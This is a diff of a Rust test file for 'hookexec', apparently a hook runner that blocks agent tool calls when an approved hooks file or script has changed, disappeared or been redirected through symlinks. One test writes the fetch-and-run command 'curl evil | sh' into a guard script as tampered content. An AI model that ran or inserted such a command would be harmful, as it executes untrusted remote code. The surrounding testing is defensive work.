@@ -52,7 +52,7 @@ tool_guard:
 
     sandbox.write("guard.sh", "curl evil | sh\n");
     let denied = run("pre_tool_use", "shell").exits(2);
-    let said = "`guard.sh`, which it executes, has changed since it was approved; a person must";
+    let said = "`guard.sh` changed after its approval; a person must";
     assert!(denied.stdout.contains(said), "{denied:?}");
     assert!(!denied.stderr.contains("curl evil"), "a guard has no time for it: {denied:?}");
     // By its own failure mode, as the approved file says.
@@ -67,7 +67,7 @@ tool_guard:
     let _ = run("pre_tool_use", "edit").exits(0);
     let _ = sandbox.hookexec(["trust", "remove", "--yes"]).run().exits(0);
     let denied = run("pre_tool_use", "shell").exits(2);
-    assert!(denied.stdout.contains("was never approved"), "{denied:?}");
+    assert!(denied.stdout.contains("is not approved"), "{denied:?}");
 }
 
 #[test]
@@ -86,7 +86,7 @@ fn a_changed_hooks_file_fails_as_a_whole_whatever_it_says_now() {
             [("pre_tool_use", 2), ("tool_guard", 2), ("stop", 0), ("session_end", 0)]
         {
             let run = sandbox.hookexec(["run", event]).stdin(CALL).run().exits(code);
-            assert!(run.stdout.contains("has changed since it was approved"), "{text:?}: {run:?}");
+            assert!(run.stdout.contains("changed after its approval"), "{text:?}: {run:?}");
         }
         // Put back as it was approved, it runs again.
         sandbox.write("hooks.yaml", HOOKS);
@@ -103,7 +103,7 @@ fn an_older_version_that_is_put_back_has_changed_the_file() {
     sandbox.trust();
     sandbox.write("hooks.yaml", "hooks: {}\n");
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-    assert!(run.stdout.contains("has changed since it was approved"), "{run:?}");
+    assert!(run.stdout.contains("changed after its approval"), "{run:?}");
 }
 
 #[test]
@@ -114,7 +114,7 @@ fn an_approved_file_that_is_gone_is_reported_at_every_event() {
     let gone = |file: &str| {
         for event in ["pre_tool_use", "session_end"] {
             let run = sandbox.hookexec(["run", event]).stdin(CALL).run().exits(0);
-            let said = format!("{file}) failed: a person approved this file, and it is gone");
+            let said = format!("{file}: this approved file is gone; its hooks don't run");
             assert!(run.stdout.contains(&said), "{run:?}");
             assert!(run.stderr.contains("hookexec trust remove"), "{run:?}");
         }
@@ -125,6 +125,9 @@ fn an_approved_file_that_is_gone_is_reported_at_every_event() {
     gone("[SANDBOX]/project/hooks.yaml");
     let shown = sandbox.hookexec(["trust"]).run().exits(1);
     assert!(shown.stdout.contains("hooks.yaml: gone"), "{shown:?}");
+    let advice = "restore hooks.yaml, or run `hookexec trust remove hooks.yaml`";
+    assert!(shown.stderr.contains(advice), "{shown:?}");
+    assert!(!shown.stderr.contains("trust add"), "{shown:?}");
     let _ = sandbox.hookexec(["trust", "remove", "--yes"]).run().exits(0);
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
     assert!(run.stdout.contains(r#""hooks":[]"#), "{run:?}");
@@ -147,7 +150,7 @@ fn nothing_of_an_unapproved_file_is_evaluated() {
         sandbox.write("hooks.yaml", &text);
         let started = std::time::Instant::now();
         let run = sandbox.hookexec(["run", "stop"]).stdin(input.as_str()).run().exits(0);
-        assert!(run.stdout.contains("was never approved"), "{run:?}");
+        assert!(run.stdout.contains("is not approved"), "{run:?}");
         // Evaluating the first two takes from 12 seconds to minutes.
         assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
     }
@@ -165,7 +168,7 @@ fn only_a_person_approves() {
         }
     }
     let denied = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-    assert!(denied.stdout.contains("was never approved"), "{denied:?}");
+    assert!(denied.stdout.contains("is not approved"), "{denied:?}");
 
     // At a terminal nothing but `yes` is a yes.
     for (typed, code) in [("no", 1), ("y", 1), ("", 1), ("yes", 0)] {
@@ -236,7 +239,7 @@ fn a_script_that_is_listed_is_covered() {
     sandbox.write("hooks.yaml", &format!("pre_tool_use: [{{ hooks: [{hook}] }}]\n"));
     let refused = sandbox.hookexec(["trust", "add", "--yes"]).run();
     assert!(refused.code() != Some(0), "{refused:?}");
-    let missing = "`Makefile`, which `scripts:` lists, is missing";
+    let missing = "`Makefile`, listed in `scripts:`, is missing";
     assert!(refused.stderr.contains(missing), "{refused:?}");
     sandbox.write("Makefile", "guard:\n");
     let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
@@ -245,7 +248,10 @@ fn a_script_that_is_listed_is_covered() {
     for change in ["guard:\n\ttrue\n", ""] {
         sandbox.write("Makefile", change);
         let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-        assert!(run.stdout.contains("`Makefile`, which it executes, has changed"), "{run:?}");
+        assert!(
+            run.stdout.contains("`Makefile`, listed in `scripts:`, changed after its approval"),
+            "{run:?}"
+        );
     }
     fs::remove_file(sandbox.project().join("Makefile")).unwrap();
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
@@ -266,7 +272,7 @@ pre_tool_use: [{ hooks: [{ type: process, command: gate }] }]
     assert!(added.stdout.contains("covered: gate.sh"), "{added:?}");
     sandbox.write("gate.sh", "touch started\n");
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
-    assert!(run.stdout.contains("`gate.sh`, which it executes, has changed"), "{run:?}");
+    assert!(run.stdout.contains("`gate.sh` changed after its approval"), "{run:?}");
     assert!(!sandbox.project().join("started").exists());
 }
 
@@ -306,4 +312,129 @@ fn without_a_home_the_users_hooks_are_where_the_variable_says() {
     let run = sandbox.hookexec(["run", "pre_tool_use"]).env("HOME", "relative");
     let run = run.env("XDG_CONFIG_HOME", "relative").stdin(CALL).run().exits(2);
     assert!(run.stdout.contains("there is no home directory to find the user's hooks in"));
+}
+
+/// A project whose guard is a script in the working directory, which denies.
+fn guarded(command: &str) -> Sandbox {
+    let sandbox = Sandbox::new();
+    let hooks = format!("pre_tool_use: [{{ hooks: [{{ type: command, command: {command} }}] }}]\n");
+    sandbox.write("hooks.yaml", &hooks);
+    for file in ["check.js", "tools/check.js"] {
+        sandbox.write(file, "console.error('DENIED'); process.exit(2)\n");
+    }
+    sandbox.trust();
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+    assert!(run.stdout.contains("DENIED"), "{run:?}");
+    sandbox
+}
+
+#[test]
+fn a_script_that_is_gone_fails_the_hooks_that_execute_it() {
+    for (command, file) in [
+        ("node ./check.js", "check.js"),
+        ("node check.js", "check.js"),
+        ("[node, ./check.js]", "check.js"),
+        ("node ./check.js, working_dir: tools", "tools/check.js"),
+        ("'node \"$HOOKEXEC_CONFIG_DIR\"/check.js'", "check.js"),
+        ("'true | node ./check.js'", "check.js"),
+    ] {
+        let sandbox = guarded(command);
+        let path = sandbox.project().join(file);
+        let refused = || {
+            let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+            let said = format!("`{file}` was approved and is gone; a person must approve it");
+            assert!(run.stdout.contains(&said), "{command}: {run:?}");
+        };
+        fs::remove_file(&path).unwrap();
+        refused();
+        let shown = sandbox.hookexec(["trust"]).run().exits(1);
+        assert!(shown.stdout.contains("hooks.yaml: a script is gone"), "{command}: {shown:?}");
+        assert!(shown.stdout.contains(&format!("    gone: {file}\n")), "{command}: {shown:?}");
+        assert!(!shown.stdout.contains("    covered: check.js"), "{command}: {shown:?}");
+        // A directory or a link to nothing is not the script either.
+        fs::create_dir(&path).unwrap();
+        refused();
+        fs::remove_dir(&path).unwrap();
+        std::os::unix::fs::symlink("/nonexistent", &path).unwrap();
+        refused();
+        fs::remove_file(&path).unwrap();
+        // A person may approve that it is gone, and another script is not approved.
+        sandbox.trust();
+        let _ = sandbox.hookexec(["trust"]).run().exits(0);
+        sandbox.write(file, "process.exit(0)\n");
+        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+        assert!(run.stdout.contains(&format!("`{file}` was never approved")), "{run:?}");
+    }
+}
+
+#[test]
+fn a_script_that_is_gone_fails_its_hook_by_its_own_failure_mode() {
+    let sandbox = guarded("node ./check.js, on_error: warn");
+    fs::remove_file(sandbox.project().join("check.js")).unwrap();
+    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
+    assert!(run.stdout.contains("failed_open") && run.stdout.contains("is gone"), "{run:?}");
+}
+
+#[test]
+fn a_link_that_leads_elsewhere_is_a_change() {
+    let sandbox = Sandbox::new();
+    let hook = "{ type: command, command: sh ./hooks/check.sh }";
+    sandbox.write("hooks.yaml", &format!("pre_tool_use: [{{ hooks: [{hook}] }}]\n"));
+    sandbox.write("real/check.sh", "exit 2\n");
+    sandbox.write("other/check.sh", "touch ran\n");
+    let link = sandbox.project().join("hooks");
+    std::os::unix::fs::symlink("real", &link).unwrap();
+    sandbox.trust();
+    let outside = sandbox.home().join("outside");
+    fs::create_dir(&outside).unwrap();
+    fs::write(outside.join("check.sh"), "touch ran\n").unwrap();
+    let empty = sandbox.home().join("empty");
+    fs::create_dir(&empty).unwrap();
+    for (target, said) in [
+        (sandbox.project().join("other"), "`hooks/check.sh` changed after its approval"),
+        (outside, "`hooks/check.sh` changed after its approval"),
+        (empty, "`hooks/check.sh` was approved and is gone"),
+    ] {
+        fs::remove_file(&link).unwrap();
+        std::os::unix::fs::symlink(&target, &link).unwrap();
+        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
+        assert!(run.stdout.contains(said), "{target:?}: {run:?}");
+    }
+    assert!(!sandbox.project().join("ran").exists());
+}
+
+#[test]
+fn a_changed_script_is_not_shown_as_covered() {
+    let sandbox = project();
+    sandbox.trust();
+    sandbox.write("guard.sh", "exit 0\n");
+    let shown = sandbox.hookexec(["trust"]).run().exits(1);
+    assert!(shown.stdout.contains("    changed: guard.sh\n"), "{shown:?}");
+    assert!(!shown.stdout.contains(" covered: guard.sh"), "{shown:?}");
+}
+
+#[test]
+fn an_answer_is_asked_for_only_when_something_would_change() {
+    let sandbox = project();
+    let remove = at_a_terminal(&sandbox, &["trust", "remove"], "no");
+    assert!(remove.0 == 0 && remove.1.contains("was not approved"), "{remove:?}");
+    let add = at_a_terminal(&sandbox, &["trust", "add"], "yes");
+    assert!(add.0 == 0 && !add.1.contains("may change without"), "{add:?}");
+    let add = at_a_terminal(&sandbox, &["trust", "add"], "no");
+    assert!(add.0 == 0 && add.1.contains("hooks.yaml: already approved"), "{add:?}");
+    let remove = at_a_terminal(&sandbox, &["trust", "remove"], "yes");
+    let said = "is no longer approved, here and in every clone with the same bytes";
+    assert!(remove.0 == 0 && remove.1.contains(said), "{remove:?}");
+}
+
+#[test]
+fn a_script_beside_the_hooks_file_is_not_the_one_that_runs_below() {
+    let sandbox = project();
+    sandbox.trust();
+    fs::create_dir(sandbox.project().join("below")).unwrap();
+    let below = sandbox.hookexec(["trust", "show", "--cwd", "below"]).run();
+    assert!(below.stdout.contains("    not covered: ./guard.sh\n"), "{below:?}");
+    assert!(!below.stdout.contains("    covered: "), "{below:?}");
+    let here = sandbox.hookexec(["trust"]).run().exits(0);
+    assert!(here.stdout.contains("    covered: guard.sh\n"), "{here:?}");
 }
